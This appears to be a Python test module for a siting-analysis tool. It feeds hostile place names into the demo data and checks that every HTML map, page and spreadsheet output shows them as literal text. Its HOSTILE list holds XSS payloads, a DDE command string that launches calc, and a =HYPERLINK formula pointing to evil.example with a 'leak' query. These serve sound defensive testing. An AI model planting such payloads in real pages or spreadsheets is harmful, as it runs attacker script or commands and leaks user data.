"""Names from registers are hostile: a copy of the demo with such names, every output built and opened.

A backtick, ``</script>``, ``${…}``, ``<img onerror>`` or ``=HYPERLINK(…)`` in a compound, facility,
parcel, township or project name must show literally wherever people read it and never run, blank
a map or lose a feature; spreadsheet cells must stay text. One clean and one hostile run of the
demo (module fixture) feed every test here.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from siting.batch import summarise, write_index, write_index_map, write_summary
from siting.pipeline import run
from tests.browser import chromium, require_chromium

ROOT = Path(__file__).resolve().parent.parent
DEMO = ROOT / "data" / "demo"

# Every name runs script or breaks the page if pasted unescaped into HTML, an attribute, a JS
# string, a template literal or a spreadsheet formula. The loader strips whitespace at the ends
# and rejects an empty required name (a clear error), so "empty" goes into optional fields.
HOSTILE = [
    "东邹家幼儿园`分园`",
    "</script><script>alert('script')</script>",
    "${alert('template')}",
    "<img src=x onerror=alert('img')>",
    "\"'><svg onload=alert('attr')>",
    "=HYPERLINK(\"http://evil.example/?leak\",\"点我\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "长" * 500,
    "👶🏻宝贝托育🧸",
    "\u202e\u200fمركز رعاية\u200f\u202c小区",
    "-1+1\u2028下一行\u2029",
]
PROJECT_NAME = "岚山区</title><script>alert('title')</script>`${alert('t')}`"
TOWNSHIPS = {0: HOSTILE[1], 3: HOSTILE[0], 5: HOSTILE[8]}  # township row → new name


def _patch_geojson(path: Path, edit) -> None:
    data = json.loads(path.read_text(encoding="utf-8"))
    for i, f in enumerate(data["features"]):
        edit(i, f["properties"])
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")


def _patch_csv(path: Path, edit) -> None:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    head = rows[0]
    for i, row in enumerate(rows[1:]):
        edit(i, dict(zip(head, row)), row, head)
    with path.open("w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows(rows)


def _hostile_copy(dest: Path) -> Path:
    shutil.copytree(DEMO, dest)
    towns = json.loads((dest / "townships.geojson").read_text(encoding="utf-8"))["features"]
    renamed = {towns[i]["properties"]["名称"]: new for i, new in TOWNSHIPS.items()}
    _patch_geojson(dest / "townships.geojson", lambda i, p: p.update(名称=TOWNSHIPS.get(i, p["名称"])))

    def compound(i, p):
        p["所属乡镇"] = renamed.get(p["所属乡镇"], p["所属乡镇"])
        if i % 40 < len(HOSTILE) and i < 40 * len(HOSTILE):  # spread over the district
            p["名称"] = HOSTILE[i // 40]

    _patch_geojson(dest / "compounds.geojson", compound)

    def facility(i, r, row, head):
        if i % 7 == 0 and i // 7 < len(HOSTILE):
            row[head.index("名称")] = HOSTILE[i // 7]
        if "班型" in head and i % 5 == 1:
            row[head.index("班型")] = ""

    _patch_csv(dest / "childcare.csv", facility)
    _patch_csv(dest / "health.csv", lambda i, r, row, head: row.__setitem__(
        head.index("名称"), HOSTILE[(i + 3) % len(HOSTILE)]) if i % 3 == 0 else None)

    def parcel(i, p):
        if i < len(HOSTILE):
            p["地块编码"] = f"{HOSTILE[i]}#{i}"  # ids stay unique
            p["现状用途"] = HOSTILE[-1 - i] if i % 2 else ""

    _patch_geojson(dest / "parcels.geojson", parcel)
    cfg = dest / "siting.toml"
    text = cfg.read_text(encoding="utf-8")
    cfg.write_text(re.sub(r'^name = ".*"$', lambda _: "name = " + json.dumps(PROJECT_NAME, ensure_ascii=False), text, count=1,
                          flags=re.M), encoding="utf-8")
    return cfg


def _batch_pages(result, out: Path) -> None:
    """The batch driver's combined pages for one good and one failed district with hostile names."""
    ok = {**summarise(result), "id": "d1", "name": PROJECT_NAME, "status": "ok", "error": "",
          "html": ["d1/district.html"]}
    failed = {"id": "d2", "name": HOSTILE[3], "status": "failed", "error": HOSTILE[1] + HOSTILE[5], "html": []}
    summary = pd.DataFrame([ok, failed])
    write_summary(summary, out)
    write_index_map(summary, out / "index_map.html")
    write_index(summary, out / "index.html")


@pytest.fixture(scope="module")
def runs(tmp_path_factory):
    require_chromium()
    base = tmp_path_factory.mktemp("hostile")
    clean_cfg = base / "clean" / "siting.toml"
    shutil.copytree(DEMO, clean_cfg.parent)
    clean = run(clean_cfg, base / "clean_out", stages=("audit", "optimize", "map"), progress=False)
    hostile = run(_hostile_copy(base / "hostile"), base / "out", progress=False)
    _batch_pages(hostile, base / "out" / "batch")
    return clean, hostile


# Features on a map page by properties.layer ("geojson" without one, "marker" for markers and labels).
COUNT = """() => {
  const map = Object.values(window).find(v => window.L && v instanceof L.Map);
  const counts = {};
  map.eachLayer(l => { if (l instanceof L.LayerGroup) return;
    const k = l.feature && l.feature.properties ? (l.feature.properties.layer || 'geojson') : 'marker';
    counts[k] = (counts[k] || 0) + 1; });
  return counts;
}"""

# Every feature's popup and hover label rendered into the page as Leaflet renders them (so an
# <img onerror> would fire); features named with a hostile name, markers and labels also clicked
# and hovered through Leaflet's own events, as a user would. Returns the texts shown.
PROBE = """async (hostile) => {
  const map = Object.values(window).find(v => window.L && v instanceof L.Map);
  L.Popup.prototype.options.autoPan = false;  // no panning animation between hundreds of popups
  const flat = s => String(s == null ? '' : s).replace(/\\s+/g, '');
  const bad = new Set(hostile.map(flat));
  const texts = [];
  const sink = document.createElement('div');
  sink.style.display = 'none';
  document.body.appendChild(sink);
  const render = (content, layer) => {
    if (typeof content === 'function') content = content(layer);
    const el = content instanceof HTMLElement ? content : Object.assign(document.createElement('div'), {innerHTML: content});
    sink.appendChild(el);
    return el.textContent;
  };
  const bound = (l, get) => [l, ...Object.values(l._eventParents || {})].map(x => x[get] && x[get]()).find(Boolean);
  const layers = [];
  map.eachLayer(l => { if (!(l instanceof L.LayerGroup)) layers.push(l); });
  for (const l of layers) {
    const popup = bound(l, 'getPopup'), tip = bound(l, 'getTooltip');
    if (popup) texts.push(render(popup._content, l));
    if (tip) texts.push(render(tip._content, l));
    const p = l.feature ? l.feature.properties : {};
    if (!(l instanceof L.Marker) && !bad.has(flat(p.name)) && !bad.has(flat(p.id))) continue;
    const ll = l.getLatLng ? l.getLatLng() : l.getBounds().getCenter();
    l.fire('click', {latlng: ll}, true);
    document.querySelectorAll('.leaflet-popup-content').forEach(e => texts.push(e.innerText));
    map.closePopup();
    l.fire('mouseover', {latlng: ll}, true);
    document.querySelectorAll('.leaflet-tooltip').forEach(e => texts.push(e.innerText));
    l.fire('mouseout', {latlng: ll}, true);
  }
  document.querySelectorAll('.leaflet-marker-icon, .leaflet-control-layers, #siting-title, #siting-legend')
    .forEach(e => texts.push(e.innerText));
  await new Promise(r => setTimeout(r, 500));  // let every <img src=x> fail and fire its onerror
  return texts;
}"""
IS_MAP = "() => !!(window.L && Object.values(window).find(v => v instanceof L.Map))"


def _flat(text: str) -> str:
    return re.sub(r"\s+", "", text)


def _expected_title(clean_title: str, clean, hostile) -> str:
    title = clean_title.replace(str(clean.project.name), PROJECT_NAME)
    for a, b in zip(clean.project.townships["name"], hostile.project.townships["name"]):
        if a != b and a in title:
            title = title.replace(str(a), str(b))
    return title


def test_every_page_shows_hostile_names_literally_and_runs_none(runs):
    clean, hostile = runs
    out = hostile.out_dir
    pages = sorted(out.rglob("*.html"))
    assert {p.name for p in pages} >= {"overview.html", "district.html", "index.html", "briefing.html",
                                      "township_01.html", "index_map.html"}
    shown = ""
    with chromium() as open_:
        for path in pages:
            rel = path.relative_to(out).as_posix()
            with open_(path, settle_ms=100) as page:
                is_map = page.evaluate(IS_MAP)
                counts = page.evaluate(COUNT) if is_map else {}
                texts = page.evaluate(PROBE, HOSTILE) if is_map else [page.evaluate("() => document.body.innerText")]
                title = page.evaluate("() => document.title")
                assert not page.dialogs, f"{rel}: a name ran script: {page.dialogs}"
                assert not page.page_errors, f"{rel}: page errors {page.page_errors}"
            shown += _flat("".join(texts))
            if (clean.out_dir / rel).exists():
                with open_(clean.out_dir / rel, settle_ms=0) as page:
                    assert counts == (page.evaluate(COUNT) if is_map else {}), f"{rel}: features lost"
                    assert title == _expected_title(page.evaluate("() => document.title"), clean, hostile), rel
    missing = [h for h in HOSTILE + [PROJECT_NAME] if _flat(h) not in shown]
    assert not missing, f"names not shown literally: {missing}"


def test_spreadsheet_cells_stay_text(runs):
    _, hostile = runs
    out = hostile.out_dir
    formula = re.compile(r"^[=+\-@\t\r]")
    for path in list(out.rglob("*.xlsx")):
        wb = openpyxl.load_workbook(path)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", f"{path.name} {ws.title}!{c.coordinate} is a formula: {c.value}"
                    if isinstance(c.value, str) and formula.match(c.value):
                        assert c.quotePrefix, f"{path.name} {ws.title}!{c.coordinate} {c.value!r} lacks quotePrefix"
    names = pd.read_excel(out / "audit.xlsx", sheet_name="小区与村庄")["名称"].tolist()
    assert HOSTILE[5] in names  # the text itself, not a mangled copy
    for path in list(out.rglob("*.csv")):
        with path.open(encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for v in row:
                    assert not formula.match(v), f"{path.name}: cell {v!r} would run as a formula"
    rows = pd.read_csv(out / "audit_compounds.csv")["名称"].tolist()
    assert "'" + HOSTILE[5] in rows and "'" + HOSTILE[7] in rows
